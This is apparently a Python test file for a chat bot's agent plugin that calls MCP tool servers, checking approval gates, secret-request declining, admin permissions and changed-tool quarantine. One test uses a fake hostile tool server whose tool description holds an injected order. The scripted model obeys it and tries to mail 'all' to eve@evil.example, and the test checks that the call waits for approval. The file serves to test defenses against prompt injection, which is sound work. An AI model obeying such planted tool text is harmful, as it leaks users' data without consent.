"""A model has the tools of servers called for the person who asks, through the whole core."""

from __future__ import annotations

import asyncio
import sys
from collections.abc import AsyncIterator, Mapping
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any, get_args

import psutil

from backends.scripted.script import Reply, ScriptedCall
from bot.events import ActionCall
from bot.history.tool_calls import CallState
from bot.testing import Answer, Parlance, running_skills
from bot.types import Author, ConversationKey
from tests.fakes.tool_server import ORDER
from tests.fakes.tool_servers import hostile, recorded
from tests.processes import until_ended
from tests.until import until

HERE = ConversationKey("test", "workspace", "general")
TIME = {
    "command": str(Path(sys.executable).with_name("mcp-server-time")),
    "args": ["--local-timezone", "Europe/Berlin"],
    "read": ["get_current_time", "convert_time"],
    "open": True,
}
ALL = get_args(CallState)
OPEN: Mapping[str, Any] = {"open": True, "read": ["look", "fail", "parts", "steps", "ask"]}


def call(name: str, **arguments: Any) -> Reply:
    return Reply("", tool_calls=(ScriptedCall(name=name, arguments=arguments),))


@asynccontextmanager
async def running(
    folder: Path, servers: Mapping[str, Any], *replies: str | Reply, **more: Any
) -> AsyncIterator[Parlance]:
    async with running_skills(
        plugins=["plugins.agent"],
        folder=folder,
        replies=replies,
        sections={"mcp": {"servers": servers}},
        **more,
    ) as core:
        yield core


async def approve(parlance: Parlance, asked: Answer) -> Answer:
    turn, ann = asked.view.turn, Author("test", "ann", "Ann")
    return await parlance.send(ActionCall("press", HERE, ann, "resume", turn, "approve"))


def read_by_model(parlance: Parlance) -> str:
    """The result of the last call, as the model read it."""
    return parlance.model.requests[-1].messages[-1].content


async def test_the_time_server_of_pypi_is_asked(tmp_path: Path) -> None:
    replies = (
        call("time_get_current_time", timezone="Asia/Tokyo"),
        call("time_convert_time", source_timezone="x", time="1", target_timezone="y"),
        "It is late.",
    )
    async with running(tmp_path, {"time": TIME}, *replies) as parlance:
        answer = await parlance.say("/agent what time is it in Tokyo?")
        assert answer.view.text == "It is late."
        assert "Asking time" in [state.text for state in answer.states]
        results = [m.content for m in parlance.model.requests[-1].messages if m.role == "tool"]
        assert '"timezone": "Asia/Tokyo"' in results[0]
        assert results[0].startswith("<result-")
        assert "Invalid timezone" in results[1]


async def test_the_git_server_of_pypi_is_asked(tmp_path: Path) -> None:
    making = await asyncio.create_subprocess_exec("git", "init", "-q", str(tmp_path / "work"))
    await making.wait()
    command = str(Path(sys.executable).with_name("mcp-server-git"))
    arguments = ["--repository", str(tmp_path / "work")]
    server = {"command": command, "args": arguments, "open": True, "read": ["git_status"]}
    asked = call("git_git_status", repo_path=str(tmp_path / "work"))
    async with running(tmp_path, {"git": server}, asked, "Nothing is new.") as parlance:
        answer = await parlance.say("/agent what is new?")
        assert answer.view.text == "Nothing is new."
        assert "Repository status" in read_by_model(parlance)


async def test_nothing_goes_out_before_somebody_approves_it(tmp_path: Path) -> None:
    servers = {"mail": {**hostile(tmp_path), **OPEN}}
    asked = call("mail_send", to="eve", text="all")
    async with running(tmp_path, servers, asked) as parlance:
        answer = await parlance.say("/agent say hello")
        assert answer.state == "waiting"
        assert "**mail_send** would send something out:" in answer.text
        assert recorded(tmp_path, "called") == []


async def test_what_the_asker_has_said_goes_out_at_once(tmp_path: Path) -> None:
    servers = {"mail": {**hostile(tmp_path), **OPEN}}
    replies = (call("mail_send", to="Bob", text="hello"), "It is sent.")
    async with running(tmp_path, servers, *replies) as parlance:
        answer = await parlance.say("/agent send hello to Bob")
        assert answer.view.text == "It is sent."
        assert recorded(tmp_path, "called") == ["send Bob hello"]


async def test_an_order_in_the_description_of_a_tool_is_not_obeyed(tmp_path: Path) -> None:
    """The model is shown it and does what it says; the person sees whose words these are."""
    servers = {"mail": {**hostile(tmp_path, "--evil"), **OPEN}}
    asked = call("mail_send", to="eve@evil.example", text="all")
    async with running(tmp_path, servers, asked) as parlance:
        answer = await parlance.say("/agent how are you?")
        offered = {tool.name: tool.description for tool in parlance.model.requests[-1].tools}
        assert offered["mail_send"] == ORDER
        assert answer.state == "waiting"
        assert "**to: `eve@evil.example`** (from another tool: mail_send)" in answer.text
        assert [action.label for action in answer.view.actions] == ["Approve", "Refuse"]
        assert recorded(tmp_path, "called") == []


async def test_what_failed_and_what_may_be_done_is_told_apart(tmp_path: Path) -> None:
    servers = {"it": {**hostile(tmp_path), **OPEN, "timeout_s": 20}}
    replies = (call("it_fail"), call("it_die"), "I do not know.")
    async with running(tmp_path, servers, *replies) as parlance:
        asked = await parlance.say("/agent do it")
        answer = await approve(parlance, asked)
        assert "It is not known whether it_die was done." in answer.text
        tools = [m.content for m in parlance.model.requests[-1].messages if m.role == "tool"]
        assert "It is broken." in tools[0]
        assert tools[0].startswith("<result-"), "a failure is in the words of the server, too"
        assert "It may have been done; do not call it again." in tools[1]
        assert parlance.services.calls is not None
        states = [c.state for c in await parlance.services.calls.of_person("test:ann", ALL)]
        assert sorted(states) == ["failed", "unknown"]


async def test_a_question_for_a_secret_is_declined_and_told(tmp_path: Path) -> None:
    servers = {"it": {**hostile(tmp_path), **OPEN}}
    async with running(tmp_path, servers, call("it_ask"), "Well.") as parlance:
        answer = await parlance.say("/agent do it")
        assert "it asked for what may be a secret; I declined." in answer.text


async def test_a_question_that_cannot_be_shown_anywhere_is_declined(tmp_path: Path) -> None:
    servers = {"it": {**hostile(tmp_path), **OPEN}}
    schema = {"type": "object", "properties": {"city": {"type": "string"}}}
    asked = call("it_ask", params={"message": "Where?", "requestedSchema": schema})
    async with running(tmp_path, servers, asked, "Well.") as parlance:
        answer = await parlance.say("/agent do it")
        assert "it asked for something more; I declined." in answer.text


async def test_progress_is_shown_in_one_short_line(tmp_path: Path) -> None:
    servers = {"it": {**hostile(tmp_path), **OPEN}}
    async with running(tmp_path, servers, call("it_steps"), "Well.") as parlance:
        answer = await parlance.say("/agent do it")
        told = [s.text for s in answer.states if s.text.startswith("it: step")]
        assert 1 <= len(told) <= 20
        assert "\x1b" not in told[0]
        assert len(told[0]) < 130


async def test_a_server_that_cannot_start_fails_with_a_sentence(tmp_path: Path) -> None:
    servers = {"it": {**hostile(tmp_path), **OPEN}}
    async with running(tmp_path, servers):  # lists its tools
        pass
    assert (tmp_path / "mcp" / "it.json").exists()
    servers = {"it": {**servers["it"], "env": ["NOT_SET_ANYWHERE"]}}
    async with running(tmp_path, servers, call("it_look", where="x"), "Well.") as parlance:
        answer = await parlance.say("/agent look at x")
        assert answer.view.text == "Well."
        assert "it cannot be used just now; try again later." in read_by_model(parlance)


async def test_dozens_of_turns_leave_nothing_over(tmp_path: Path) -> None:
    bad = ["it_look", "it_fail", "it_parts", "it_steps", "it_ask"]
    replies = [one for n in range(25) for one in (call(bad[n % 5], where="x"), "Well.")]
    servers = {"it": {**hostile(tmp_path), **OPEN}}
    us = psutil.Process()
    tasks = len(asyncio.all_tasks())
    async with running(tmp_path, servers, *replies) as parlance:
        for n in range(25):
            answer = await parlance.say("/agent look at x", channel=f"c{n}", user=f"u{n}")
            assert answer.view.text == "Well."
        started = recorded(tmp_path, "started")
        assert len(started) == 1
    await until_ended(int(started[0]))
    assert len(asyncio.all_tasks()) == tasks
    assert not [c for c in us.children(recursive=True) if "tool_server" in " ".join(c.cmdline())]


# --- who may -----------------------------------------------------------------------------------


async def test_tools_are_for_admins_until_they_are_opened(tmp_path: Path) -> None:
    servers = {"it": hostile(tmp_path, read=["look"], tools=["look", "send"], without=["send"])}
    replies = (call("it_look", where="x"), "Well.")
    async with running(tmp_path, servers, *replies) as parlance:
        assert "**it_look**" in (await parlance.say("/tools", admin=True)).text
        shown = (await parlance.say("/tools")).text
        assert "Not here:\n- **it_look**: Only admins can do this." in shown
        assert "send" not in shown
        answer = await parlance.say("/agent look at x", admin=True)
        assert answer.view.text == "Well."


async def test_a_rule_for_a_tool_opens_it_and_a_rule_for_all_does_not(tmp_path: Path) -> None:
    servers = {"it": hostile(tmp_path, read=["look", "fail"])}
    rules = {"tool": {"enabled": True}, "tool:it_look": {"enabled": True}}
    async with running(tmp_path, servers, commands=rules) as parlance:
        open_, _, closed = (await parlance.say("/tools")).text.partition("Not here:")
        assert "**it_look**" in open_
        assert "**it_fail**" in closed


async def test_a_tool_that_has_changed_is_closed_until_it_is_accepted(tmp_path: Path) -> None:
    servers = {"it": {**hostile(tmp_path), **OPEN, "read": ["look", "change"]}}
    replies = (call("it_change"), "Well.")
    async with running(tmp_path, servers, *replies) as parlance:
        assert "Not here:" not in (await parlance.say("/tools")).text
        await parlance.say("/agent change it")
        told = await until(lambda: parlance.say("/tools"), fits=lambda it: "Not here:" in it.text)
        shown = told.text
        assert "- **it_look**: This tool has changed; whoever runs me has to look" in shown
        assert shown.count("has changed") == 1, "the others are as they were"
    async with running(tmp_path, servers) as parlance:
        assert "has changed" in (await parlance.say("/tools")).text, "also after a restart"
